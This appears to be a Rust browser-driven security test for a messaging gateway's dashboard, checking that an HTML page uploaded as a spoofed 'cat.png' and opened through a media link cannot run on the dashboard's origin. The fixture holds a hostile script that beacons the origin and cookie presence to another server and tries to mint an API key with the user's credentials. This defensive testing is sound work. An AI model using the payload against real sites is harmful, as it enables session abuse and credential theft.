//! A page a stranger sends to a linked number, opened through its media link by someone
//! signed in to the dashboard, in a real browser: it must not run as a page of the
//! dashboard's origin (where it could read the CSRF token and mint API keys).

use crate::support::TestApp;
use crate::webdriver::Browser;
use crate::{BROWSER, sign_in};
use axum::Router;
use axum::extract::{Query, State};
use axum::response::Html;
use axum::routing::get;
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use std::collections::HashMap;
use std::sync::{Arc, Mutex};
use std::time::Duration;
use wagate::http::media_link::MediaLinkKey;

/// A server on another origin that records beacons (`/beacon?from=<origin>`) and serves
/// the hostile page itself, as the positive control.
#[derive(Clone, Default)]
struct Beacons {
    got: Arc<Mutex<Vec<String>>>,
    base: String,
}

impl Beacons {
    async fn start() -> Self {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let b = Beacons {
            got: Arc::default(),
            base: format!("http://{}", listener.local_addr().unwrap()),
        };
        let page = hostile_page(&b.base);
        let app = Router::new()
            .route(
                "/beacon",
                get(
                    |State(b): State<Beacons>, Query(q): Query<HashMap<String, String>>| async move {
                        b.got
                            .lock()
                            .unwrap()
                            .push(q.get("from").cloned().unwrap_or_default());
                        "ok"
                    },
                ),
            )
            .route("/page", get(move || async move { Html(page) }))
            .with_state(b.clone());
        tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
        b
    }

    fn got(&self) -> Vec<String> {
        self.got.lock().unwrap().clone()
    }

    /// Waits until `n` beacons came from this server's own page.
    async fn wait_for_own(&self, n: usize) {
        let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
        while self.got().iter().filter(|f| **f == self.base).count() < n {
            assert!(
                tokio::time::Instant::now() < deadline,
                "expected {n} beacons from {}; got {:?}",
                self.base,
                self.got()
            );
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }
}

/// What the attacker's page does when it runs: report the origin it runs on (with a
/// note when it can read cookies there) and try to mint an API key.
fn hostile_page(beacons: &str) -> String {
    format!(
        r#"<!DOCTYPE html><html><head><title>cat</title></head><body>
<script>
  var from = location.origin + (document.cookie ? ' cookies' : '');
  new Image().src = '{beacons}/beacon?from=' + encodeURIComponent(from);
  fetch('/v1/developer/keys', {{method: 'POST', credentials: 'include'}}).catch(function(){{}});
  document.title = 'pwned';
</script></body></html>"#
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_page_sent_by_a_stranger_does_not_run_on_the_dashboard_origin() {
    let _one = BROWSER.lock().await;
    let app = TestApp::spawn().await;
    let uid = app.connected_device("shop").await;
    let beacons = Beacons::start().await;

    // The stranger's message: the page, declared as a PNG image named cat.png.
    let form = reqwest::multipart::Form::new().part(
        "file",
        reqwest::multipart::Part::bytes(hostile_page(&beacons.base).into_bytes())
            .file_name("cat.png")
            .mime_str("image/png")
            .unwrap(),
    );
    let up: Value = app
        .http
        .post(format!("{}/v1/developer/media/upload", app.base))
        .header("X-API-Key", &app.key)
        .multipart(form)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let (status, reply) = app
        .api(
            Method::POST,
            "/v1/developer/sandbox/inbound",
            Some(json!({
                "deviceUid": uid, "from": "+201001234567", "text": "see my cat",
                "mediaId": up["data"]["mediaId"], "mimeType": "image/png", "fileName": "cat.png",
            })),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{reply}");
    let media_id = {
        let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
        loop {
            let (_, list) = app.api(Method::GET, "/v1/developer/inbound", None).await;
            if let Some(id) = list["data"]["items"][0]["mediaId"].as_str() {
                break id.to_owned();
            }
            assert!(tokio::time::Instant::now() < deadline, "{list}");
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    };
    let link = MediaLinkKey::load_or_create(&app.config.data_dir)
        .unwrap()
        .link(&app.base, &media_id, chrono::Utc::now().timestamp() + 3600);

    let b = Browser::start().await;
    // The control: served plainly from its own origin, the page runs and reports, so
    // silence from the link below means something.
    b.goto(&format!("{}/page", beacons.base)).await;
    beacons.wait_for_own(1).await;

    // Signed in to the dashboard, then the link, as the receiver's user would open it.
    sign_in(&b, &app).await;
    b.goto(&link).await;
    // The browser handles navigations in order: once the next page has reported,
    // whatever the link's page would have run has run.
    b.goto(&format!("{}/page", beacons.base)).await;
    beacons.wait_for_own(2).await;
    let foreign: Vec<String> = beacons
        .got()
        .into_iter()
        .filter(|f| *f != beacons.base)
        .collect();
    assert!(
        foreign.is_empty(),
        "the stranger's page ran outside its own origin (dashboard: {}): {foreign:?}",
        app.base
    );
    let (_, keys) = app.api(Method::GET, "/v1/developer/keys", None).await;
    assert_eq!(
        keys["data"].as_array().map(Vec::len),
        Some(1),
        "no API key was minted: {keys}"
    );
    b.quit().await;
    app.stop().await;
}
